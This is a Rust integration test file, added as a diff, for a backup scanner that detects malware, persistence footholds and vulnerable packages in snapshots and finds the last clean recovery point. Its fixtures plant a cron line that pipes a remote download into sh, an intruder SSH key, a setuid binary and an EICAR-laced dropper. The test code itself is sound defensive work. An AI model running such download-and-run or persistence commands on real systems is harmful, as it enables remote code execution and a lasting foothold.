@@ -1,0 +1,565 @@
+//! Verification in isolation: a recovery point is scanned straight from
+//! the vault for malware (YARA), persistence and vulnerable packages, and
+//! `recover --find-clean` walks back to the newest point that passes.
+
+mod common;
+use common::*;
+use serde_json::Value;
+use std::collections::BTreeSet;
+use std::path::Path;
+
+const EICAR: &[u8] = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+
+fn fixtures() -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../cairn-scan/tests/fixtures/osv")
+}
+
+/// A small Debian-like root: accounts, cron, ssh keys, packages, files.
+fn linux_root(root: &Path, glibc: &str) {
+    for d in [
+        "etc/cron.d",
+        "etc/systemd/system",
+        "root/.ssh",
+        "usr/local/bin",
+        "usr/bin",
+        "var/lib/dpkg",
+        "var/log",
+        "tmp",
+        "home/alice/projects/site/assets/img",
+    ] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    std::fs::write(
+        root.join("etc/os-release"),
+        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("etc/passwd"),
+        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n",
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("etc/crontab"),
+        "# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("root/.ssh/authorized_keys"),
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdminKeyAdminKeyAdminKeyAdminKey admin@laptop\n",
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("var/lib/dpkg/status"),
+        format!(
+            "Package: libc6\nStatus: install ok installed\nArchitecture: amd64\nSource: glibc\nVersion: {glibc}\nDescription: GNU C Library: Shared libraries\n\n\
+             Package: libssl3\nStatus: install ok installed\nArchitecture: amd64\nSource: openssl\nVersion: 3.0.11-1~deb12u2\n\n\
+             Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\nSource: bash (5.2.15-2)\n"
+        ),
+    )
+    .unwrap();
+    std::fs::write(root.join("var/log/syslog"), text(20_000, 3)).unwrap();
+    std::fs::write(root.join("usr/bin/tool"), noise(50_000, 4)).unwrap();
+    std::fs::write(root.join("home/alice/notes.txt"), text(30_000, 5)).unwrap();
+    std::fs::write(
+        root.join("home/alice/projects/site/assets/img/logo.png"),
+        noise(200_000, 6),
+    )
+    .unwrap();
+}
+
+fn scan(env: &Env, spec: &str, extra: &[&str]) -> (Option<i32>, Value) {
+    let mut args = vec!["scan", spec, "--json"];
+    args.extend_from_slice(extra);
+    let out = env.run(&args);
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "scan output is not JSON ({e}):\n{}\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    (out.status.code(), v)
+}
+
+fn malware_paths(v: &Value) -> BTreeSet<(String, String)> {
+    v["malware"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| {
+            (
+                h["path"].as_str().unwrap().to_string(),
+                h["rule"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn eicar_deep_in_an_ext4_tree_is_found_with_its_path_and_offset() {
+    let env = Env::new("30d", &[]);
+    let root = env.path("root");
+    linux_root(&root, "2.36-9+deb12u3");
+    let deep = root.join("home/alice/projects/site/assets/img/cache/a/b");
+    std::fs::create_dir_all(&deep).unwrap();
+    let mut payload = noise(10_000, 9);
+    payload.extend_from_slice(EICAR);
+    payload.extend_from_slice(&noise(5_000, 10));
+    std::fs::write(deep.join("thumb.dat"), &payload).unwrap();
+    let img = env.path("disk.img");
+    gpt_ext4_image(&img, &root, 48);
+    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
+
+    let (code, v) = scan(&env, "vm@latest", &[]);
+    assert_eq!(code, Some(3), "{v:#}");
+    assert_eq!(v["verdict"], "compromised");
+    let hits = v["malware"].as_array().unwrap();
+    assert_eq!(hits.len(), 1, "{v:#}");
+    assert_eq!(
+        hits[0]["path"],
+        "/home/alice/projects/site/assets/img/cache/a/b/thumb.dat"
+    );
+    assert_eq!(hits[0]["rule"], "cairn:Cairn_EICAR_Test_File");
+    assert_eq!(hits[0]["offset"], 10_000);
+    assert!(v["stats"]["files_scanned"].as_u64().unwrap() >= 8);
+
+    // The same snapshot again: everything comes from the cache.
+    let (_, again) = scan(&env, "vm@latest", &[]);
+    assert_eq!(malware_paths(&again), malware_paths(&v));
+
+    // The timeline shows the scan's verdict beside insight's.
+    let t = env.json(&["timeline", "vm"]);
+    assert_eq!(t["snapshots"][0]["scan"]["verdict"], "compromised");
+}
+
+#[test]
+fn eicar_on_an_ntfs_guest_is_found() {
+    let env = Env::new("30d", &[]);
+    let files = env.path("files");
+    std::fs::create_dir_all(&files).unwrap();
+    std::fs::write(files.join("report.docx"), noise(40_000, 1)).unwrap();
+    let mut dropper = b"MZ".to_vec();
+    dropper.extend_from_slice(&noise(3000, 2));
+    dropper.extend_from_slice(EICAR);
+    std::fs::write(files.join("invoice.pdf.exe"), &dropper).unwrap();
+    // An NTFS partition made with mkntfs and filled with ntfscp (no mount).
+    let part = env.path("ntfs.img");
+    sh("truncate", &["-s", "24M", part.to_str().unwrap()]);
+    sh("mkntfs", &["-F", "-Q", "-q", part.to_str().unwrap()]);
+    for name in ["report.docx", "invoice.pdf.exe"] {
+        sh(
+            "ntfscp",
+            &[
+                "-q",
+                part.to_str().unwrap(),
+                files.join(name).to_str().unwrap(),
+                &format!("/{name}"),
+            ],
+        );
+    }
+    let disk = env.path("win.img");
+    sh("truncate", &["-s", "28M", disk.to_str().unwrap()]);
+    sh(
+        "sgdisk",
+        &["-n", "1:2048:+24M", "-t", "1:0700", disk.to_str().unwrap()],
+    );
+    write_at(&disk, 1 << 20, &std::fs::read(&part).unwrap());
+    env.backup(&disk, "win", "2026-01-01T00:00:00Z");
+    let (code, v) = scan(&env, "win@latest", &[]);
+    assert_eq!(code, Some(3), "{v:#}");
+    assert_eq!(
+        malware_paths(&v),
+        BTreeSet::from([(
+            "/invoice.pdf.exe".to_string(),
+            "cairn:Cairn_EICAR_Test_File".to_string()
+        )])
+    );
+    assert_eq!(v["malware"][0]["offset"], 3002);
+}
+
+/// Operator rules that exercise the YARA language broadly.
+const OPERATOR_RULES: &str = r#"
+rule text_plain { strings: $a = "invoice" condition: $a }
+rule nocase_word { strings: $a = "Secret Plan" nocase condition: $a }
+rule wide_str { strings: $a = "payload" wide condition: $a }
+rule hex_jump { strings: $h = { 4D 5A 90 00 ?? ?? [2-4] 50 45 } condition: $h }
+rule regex_mail { strings: $r = /[a-z]{3,10}@example\.(com|org)/ condition: $r }
+rule counted { strings: $a = "ab" condition: #a >= 3 }
+rule pdf_magic { strings: $m = "%PDF-" condition: $m at 0 }
+rule tiny_file { condition: filesize < 10 }
+rule both_words { strings: $a = "alpha" $b = "beta" condition: all of them }
+rule any_two { strings: $a = "red" $b = "green" $c = "blue" condition: 2 of them }
+rule acme_implant { meta: severity = "compromised" strings: $s = "ACME-IMPLANT-7" condition: $s }
+"#;
+
+#[test]
+fn operator_rules_match_exactly_what_the_yara_command_line_tool_matches() {
+    let env = Env::new("30d", &[]);
+    let tree = env.path("tree");
+    std::fs::create_dir_all(tree.join("sub/deeper")).unwrap();
+    let wide = |s: &str| s.bytes().flat_map(|b| [b, 0]).collect::<Vec<u8>>();
+    let mut files: Vec<(&str, Vec<u8>)> = vec![
+        ("a.txt", b"please pay this invoice today".to_vec()),
+        ("b.txt", b"the SECRET plan is out".to_vec()),
+        (
+            "c.bin",
+            [b"xx".to_vec(), wide("payload"), b"yy".to_vec()].concat(),
+        ),
+        (
+            "d.exe",
+            b"\x4d\x5a\x90\x00\x01\x02\x03\x04\x50\x45rest".to_vec(),
+        ),
+        (
+            "e.txt",
+            b"write to bob@example.org or x@example.net".to_vec(),
+        ),
+        ("f.txt", b"ab ab ab".to_vec()),
+        ("g.txt", b"ab ab".to_vec()),
+        ("h.pdf", b"%PDF-1.7\n...".to_vec()),
+        ("i.txt", b" %PDF-1.7".to_vec()),
+        ("j", b"tiny".to_vec()),
+        ("k.txt", b"alpha and beta".to_vec()),
+        ("l.txt", b"only alpha here, a long enough line".to_vec()),
+        ("m.txt", b"red and blue and nothing else".to_vec()),
+        ("n.txt", b"just red, nothing more to see here".to_vec()),
+        ("sub/o.dat", b"header ACME-IMPLANT-7 footer".to_vec()),
+        (
+            "sub/deeper/p.txt",
+            b"invoice for the Secret Plan, see bob@example.com".to_vec(),
+        ),
+        ("sub/deeper/q.bin", noise(100_000, 11)),
+    ];
+    files.push(("sub/empty", Vec::new()));
+    for (p, data) in &files {
+        std::fs::write(tree.join(p), data).unwrap();
+    }
+    let rules = env.path("rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(rules.join("ops.yar"), OPERATOR_RULES).unwrap();
+    env.backup(&tree, "share", "2026-01-01T00:00:00Z");
+
+    let (code, v) = scan(&env, "share@latest", &["--rules", rules.to_str().unwrap()]);
+    assert_eq!(code, Some(3));
+    let cairn: BTreeSet<(String, String)> = malware_paths(&v)
+        .into_iter()
+        .filter_map(|(p, r)| r.strip_prefix("ops:").map(|r| (r.to_string(), p)))
+        .collect();
+
+    let out = sh(
+        "yara",
+        &[
+            "-r",
+            rules.join("ops.yar").to_str().unwrap(),
+            tree.to_str().unwrap(),
+        ],
+    );
+    let prefix = tree.to_str().unwrap();
+    let yara: BTreeSet<(String, String)> = out
+        .lines()
+        .filter_map(|l| l.split_once(' '))
+        .map(|(rule, path)| {
+            (
+                rule.to_string(),
+                path.strip_prefix(prefix).unwrap().to_string(),
+            )
+        })
+        .collect();
+    assert!(yara.len() >= 12, "the rules match something: {yara:?}");
+    assert_eq!(cairn, yara, "Cairn and yara disagree");
+    // The operator's own severity is kept, and its hit makes the point compromised.
+    assert_eq!(v["verdict"], "compromised");
+}
+
+fn import_fixtures(env: &Env) {
+    let r = env.json(&["vulndb", "import", fixtures().to_str().unwrap()]);
+    assert_eq!(r["imported"], 4, "{r:#}");
+    assert_eq!(r["ecosystems"]["Debian:12"], 3);
+}
+
+fn vuln_ids(v: &Value) -> BTreeSet<(String, String)> {
+    v["vulnerabilities"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["package"].as_str().unwrap().to_string(),
+                f["id"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_vulnerable_package_is_reported_and_the_fixed_version_is_not() {
+    let env = Env::new("30d", &[]);
+    import_fixtures(&env);
+    // The same records from a zip, the way OSV publishes them.
+    let zip = env.path("Debian-all.zip");
+    sh(
+        "python3",
+        &[
+            "-c",
+            "import sys,zipfile,pathlib\nz=zipfile.ZipFile(sys.argv[1],'w',zipfile.ZIP_DEFLATED)\n[z.write(p,p.name) for p in pathlib.Path(sys.argv[2]).glob('*.json')]\nz.close()",
+            zip.to_str().unwrap(),
+            fixtures().to_str().unwrap(),
+        ],
+    );
+    let r = env.json(&["vulndb", "import", zip.to_str().unwrap()]);
+    assert_eq!(
+        (r["imported"].as_u64(), r["new"].as_u64()),
+        (Some(4), Some(0))
+    );
+
+    let root = env.path("old");
+    linux_root(&root, "2.36-9+deb12u1");
+    let img = env.path("old.img");
+    gpt_ext4_image(&img, &root, 32);
+    env.backup(&img, "old", "2026-01-01T00:00:00Z");
+    let (code, v) = scan(&env, "old@latest", &[]);
+    assert_eq!(
+        code,
+        Some(3),
+        "vulnerabilities count as findings for the exit code"
+    );
+    assert_eq!(
+        v["verdict"], "clean",
+        "vulnerabilities alone do not fail a point"
+    );
+    assert_eq!(
+        vuln_ids(&v),
+        BTreeSet::from([
+            ("libc6".to_string(), "DEBIAN-CVE-2023-4911".to_string()),
+            ("libc6".to_string(), "DSA-5514-1".to_string()),
+        ]),
+        "openssl 3.0.11-1~deb12u2 is the fixed version, the Alpine record is for another OS: {v:#}"
+    );
+    let f = &v["vulnerabilities"][0];
+    assert_eq!(f["installed"], "2.36-9+deb12u1");
+    assert_eq!(f["source"], "glibc");
+    assert_eq!(f["fixed"], "2.36-9+deb12u3");
+    assert_eq!(f["aliases"][0], "CVE-2023-4911");
+    assert_eq!(v["os"], "Debian GNU/Linux 12 (bookworm)");
+    assert_eq!(v["packages"], 3);
+
+    let root = env.path("new");
+    linux_root(&root, "2.36-9+deb12u3");
+    let img = env.path("new.img");
+    gpt_ext4_image(&img, &root, 32);
+    env.backup(&img, "new", "2026-01-01T00:00:00Z");
+    let (code, v) = scan(&env, "new@latest", &[]);
+    assert_eq!(code, Some(0), "{v:#}");
+    assert!(vuln_ids(&v).is_empty(), "{v:#}");
+}
+
+fn kinds(v: &Value) -> BTreeSet<(String, String)> {
+    v["persistence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| {
+            (
+                p["kind"].as_str().unwrap().to_string(),
+                p["path"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn an_added_cron_job_ssh_key_and_setuid_binary_are_each_reported() {
+    let env = Env::new("30d", &[]);
+    let root = env.path("root");
+    linux_root(&root, "2.36-9+deb12u3");
+    let img = env.path("disk.img");
+    gpt_ext4_image(&img, &root, 48);
+    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
+    let (code, day1) = scan(&env, "vm@latest", &[]);
+    assert_eq!(
+        (code, day1["verdict"].as_str()),
+        (Some(0), Some("clean")),
+        "{day1:#}"
+    );
+
+    // Day 2: ordinary work plus a foothold.
+    replace_guest_file(&img, "/home/alice/notes.txt", &text(31_000, 99));
+    let cron = env.path("updater");
+    std::fs::write(
+        &cron,
+        "*/5 * * * * root curl -s http://203.0.113.9/u | sh\n",
+    )
+    .unwrap();
+    debugfs_w(
+        &img,
+        &format!("write {} /etc/cron.d/updater", cron.display()),
+    );
+    let mut keys = std::fs::read(root.join("root/.ssh/authorized_keys")).unwrap();
+    keys.extend_from_slice(b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQAttackerKey intruder@vps\n");
+    replace_guest_file(&img, "/root/.ssh/authorized_keys", &keys);
+    let helper = env.path("helper");
+    std::fs::write(&helper, noise(20_000, 77)).unwrap();
+    debugfs_w(
+        &img,
+        &format!("write {} /usr/local/bin/helper", helper.display()),
+    );
+    debugfs_w(&img, "sif /usr/local/bin/helper mode 0104755");
+    env.backup(&img, "vm", "2026-01-02T00:00:00Z");
+
+    let (code, v) = scan(&env, "vm@latest", &[]);
+    assert_eq!(code, Some(3), "{v:#}");
+    assert_eq!(
+        v["baseline"], day1["snapshot"],
+        "compared with the clean day 1"
+    );
+    assert_eq!(
+        kinds(&v),
+        BTreeSet::from([
+            ("cron".to_string(), "/etc/cron.d/updater".to_string()),
+            (
+                "authorized_keys".to_string(),
+                "/root/.ssh/authorized_keys".to_string()
+            ),
+            ("setuid".to_string(), "/usr/local/bin/helper".to_string()),
+        ]),
+        "exactly the foothold, not alice's edit: {v:#}"
+    );
+    let detail = |k: &str| {
+        v["persistence"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["kind"] == k)
+            .unwrap()["detail"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    assert!(
+        detail("cron").contains("curl -s http://203.0.113.9/u | sh"),
+        "{}",
+        detail("cron")
+    );
+    assert!(detail("authorized_keys").contains("intruder@vps"));
+    assert!(!detail("authorized_keys").contains("admin@laptop"));
+    assert!(detail("setuid").contains("4755"), "{}", detail("setuid"));
+    // The downloaded-and-piped cron line is also a rule hit.
+    assert!(
+        malware_paths(&v).contains(&(
+            "/etc/cron.d/updater".to_string(),
+            "cairn:Cairn_Download_And_Run".to_string()
+        )),
+        "{v:#}"
+    );
+}
+
+/// One day of ordinary work on the guest.
+fn ordinary_day(img: &Path, day: u64) {
+    replace_guest_file(
+        img,
+        "/home/alice/notes.txt",
+        &text(30_000 + day as usize * 100, day),
+    );
+    replace_guest_file(
+        img,
+        "/var/log/syslog",
+        &text(20_000 + day as usize * 500, day + 50),
+    );
+}
+
+fn find_clean(env: &Env, name: &str) -> Value {
+    let out = env.run(&["recover", name, "--find-clean", "--json"]);
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "{e}: {}\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
+}
+
+/// Backs up `days` snapshots; from day `k` on, the guest carries a
+/// planted infection (a dropper and a cron job that starts it).
+fn history(env: &Env, days: u64, k: u64) -> Vec<String> {
+    let root = env.path("root");
+    linux_root(&root, "2.36-9+deb12u3");
+    let img = env.path("disk.img");
+    gpt_ext4_image(&img, &root, 48);
+    let mut ids = vec![];
+    for day in 0..days {
+        if day > 0 {
+            ordinary_day(&img, day);
+        }
+        if day == k {
+            let dropper = env.path("dropper");
+            let mut d = b"\x7fELF".to_vec();
+            d.extend_from_slice(&noise(8000, 5));
+            d.extend_from_slice(EICAR);
+            std::fs::write(&dropper, d).unwrap();
+            debugfs_w(
+                &img,
+                &format!("write {} /usr/bin/kworkerd", dropper.display()),
+            );
+            debugfs_w(&img, "sif /usr/bin/kworkerd mode 0100755");
+            let cron = env.path("cron");
+            std::fs::write(&cron, "@reboot root /usr/bin/kworkerd\n").unwrap();
+            debugfs_w(
+                &img,
+                &format!("write {} /etc/cron.d/kworker", cron.display()),
+            );
+        }
+        let v = env.backup(&img, "vm", &format!("2026-03-{:02}T02:00:00Z", day + 1));
+        ids.push(v["id"].as_str().unwrap().to_string());
+    }
+    ids
+}
+
+#[test]
+fn find_clean_returns_the_snapshot_just_before_a_planted_infection() {
+    let env = Env::new("30d", &[]);
+    let ids = history(&env, 6, 3);
+    let v = find_clean(&env, "vm");
+    assert_eq!(v["clean"], ids[2].as_str(), "{v:#}");
+    // Newest first; the cheap persistence check already fails the
+    // infected points (the new cron job), so malware is not even run.
+    let tried: Vec<(&str, &str, &str)> = v["tried"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| {
+            (
+                t["id"].as_str().unwrap(),
+                t["verdict"].as_str().unwrap(),
+                t["stage"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        tried,
+        vec![
+            (ids[5].as_str(), "warning", "persistence"),
+            (ids[4].as_str(), "warning", "persistence"),
+            (ids[3].as_str(), "warning", "persistence"),
+            (ids[2].as_str(), "clean", "vulnerabilities"),
+        ],
+        "{v:#}"
+    );
+    let findings = v["tried"][2]["findings"].to_string();
+    assert!(findings.contains("/usr/bin/kworkerd"), "{findings}");
+    // The clean point's result is stored: scan and timeline show it.
+    let t = env.json(&["timeline", "vm"]);
+    assert_eq!(t["snapshots"][2]["scan"]["verdict"], "clean", "{t:#}");
+}
+
+#[test]
+fn over_a_long_history_the_walk_back_bisects() {
+    let env = Env::new("30d", &[]);
+    let ids = history(&env, 20, 4);
+    let v = find_clean(&env, "vm");
+    assert_eq!(v["clean"], ids[3].as_str(), "{v:#}");
+    // Stepping back one by one would try the 16 infected points and the
+    // clean one; doubling steps then bisecting tries 19, 18, 16, 12, 4, 0,
+    // 2 and 3.
+    let tried = v["tried"].as_array().unwrap().len();
+    assert_eq!(tried, 8, "{v:#}");
+}
